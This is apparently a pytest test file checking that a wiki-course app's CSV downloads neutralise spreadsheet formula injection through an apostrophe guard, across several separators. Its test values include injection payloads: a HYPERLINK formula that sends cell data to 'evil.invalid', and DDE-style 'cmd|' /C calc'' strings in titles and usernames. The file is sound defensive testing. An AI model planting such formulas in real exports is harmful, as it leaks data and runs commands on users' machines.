"""CSV downloads a spreadsheet opens without running a formula, whatever its separator: titles and
usernames are anyone's, and a locale that splits on `;` (or tab, `|`) makes a cell of what follows
it. Each guarded spot gets one apostrophe (OWASP), which a reader removes to get the value back."""
from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from support.course import update
from support.exports import write_export
from wikicourse import courses
from wikicourse.campaigns import add_courses, create_campaign
from wikicourse.db import open_db
from wikicourse.web import create_app
from wikicourse.web.exports import _text, to_csv
from wikicourse.wikis import add_wiki

WIKI = "csv.demo.invalid"
SEPARATORS = ",;\t|"
FORMULA = "=+-@"
TITLES = ['x;=HYPERLINK("http://evil.invalid/?"&A1,"click")', "a,=1+1", "=cmd", "e\t=cmd",
          "b|@SUM(1+1)*cmd|' /C calc'!A0",
          "c; +1", 'd;"-2"', "'=already quoted", "Plain - title", "-5"]
# Usernames with formula characters after a separator; the editors column joins them with "; ".
USERS = ["Ann;=1+1", "=HYPERLINK(1)", "Bob, -3", "Plain"]
COURSE_TITLE = "Course;=cmd|' /C calc'!A0"


def unguard(cell: str) -> str:
    """The reader's side: drop the apostrophe before each guarded formula character."""
    return re.sub(r"""(^|(?<=[,;|\t\r\n]))([ "]*)'(?='*[=+\-@\t\r])""", r"\2", cell)


def formulas(raw: str) -> list[str]:
    """The cells a spreadsheet would run, splitting the file's lines on any separator (quotes or
    not): what starts, after spaces and quotes it may drop, with a formula character and is not
    a plain number."""
    found = []
    for line in raw.splitlines():
        for piece in re.split(f"[{re.escape(SEPARATORS)}]", line):
            cell = piece.lstrip(' "')
            if cell and cell[0] in FORMULA and not re.fullmatch(r'-?\d+"?', cell):
                found.append(piece)
    return found


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    folder = tmp_path_factory.mktemp("csv")
    pages = {(title, 0): [(f"2024-01-0{2 + n % 3}T10:00:00Z", user, f"{title} text {n}" * (n + 1))
                          for n, user in enumerate(USERS)]
             for title in TITLES}
    export = write_export(folder / "wiki.xml", pages)
    engine = open_db(f"sqlite:///{folder / 'csv.sqlite'}")
    add_wiki(engine, WIKI, export.resolve().as_uri())
    courses.create_course(engine, "evil", title=COURSE_TITLE, start=date(2024, 1, 1), end=date(2024, 1, 10),
                          wikis=[WIKI])
    courses.enroll(engine, "evil", USERS)
    update(engine, "evil", "2024-02-01T00:00:00Z")
    create_campaign(engine, "camp", title="Camp")
    add_courses(engine, "camp", ["evil"])
    with TestClient(create_app(engine)) as client:
        yield client
    engine.dispose()


def download(client, path: str) -> tuple[str, list[dict]]:
    r = client.get(path)
    assert r.status_code == 200, r.text
    raw = r.content.decode("utf-8-sig")
    return raw, list(csv.DictReader(io.StringIO(raw)))


@pytest.mark.parametrize("path,column,values", [
    ("/courses/evil/articles.csv", "title", TITLES),
    ("/courses/evil/students.csv", "username", USERS),
    ("/campaigns/camp/courses.csv", "title", [COURSE_TITLE]),
])
def test_no_cell_runs_as_a_formula_whatever_the_separator_and_the_values_come_back(site, path, column, values):
    raw, rows = download(site, path)
    assert formulas(raw) == []
    assert sorted(unguard(r[column]) for r in rows) == sorted(values)
    # Guarded cells differ from the value by their apostrophes only; the others are left alone.
    for r in rows:
        value = unguard(r[column])
        assert r[column].replace("'", "") == value.replace("'", "")
        if not re.search(r"(^|[,;|\t])[ \"]*'*[=+\-@\t]", value):
            assert r[column] == value


def test_the_editors_column_and_the_figures_stay_readable(site):
    raw, rows = download(site, "/courses/evil/articles.csv")
    for r in rows:
        assert sorted(unguard(r["editors"]).split("; ")) == sorted(USERS)
        assert all(re.fullmatch(r"-?\d+", r[f]) for f in ("revision_count", "character_sum", "references_count"))
    assert "'" not in "".join(r["character_sum"] + r["revision_count"] for r in rows)
    _, students = download(site, "/courses/evil/students.csv")
    assert all(re.fullmatch(r"-?\d+", r["character_sum_ms"]) for r in students)


@given(st.text(alphabet=" \"'=+-@\t\r\n,;|ab", max_size=12))
def test_the_guard_is_exact_and_leaves_no_formula(value):
    cell = _text(value)
    assert unguard(cell) == value
    # A cell the writer quotes (or not) splits nowhere into a formula.
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow([cell])
    assert formulas(out.getvalue().replace("\r\n", "\n")) == [], repr(cell)


def test_numbers_are_left_as_numbers_and_text_that_looks_like_one_is_guarded():
    # A figure (an int) is a number to the spreadsheet, negative or not; a title "-5" is text.
    assert to_csv(["figure", "title"], [[-5, _text("-5")]]) == "figure,title\r\n-5,'-5\r\n"
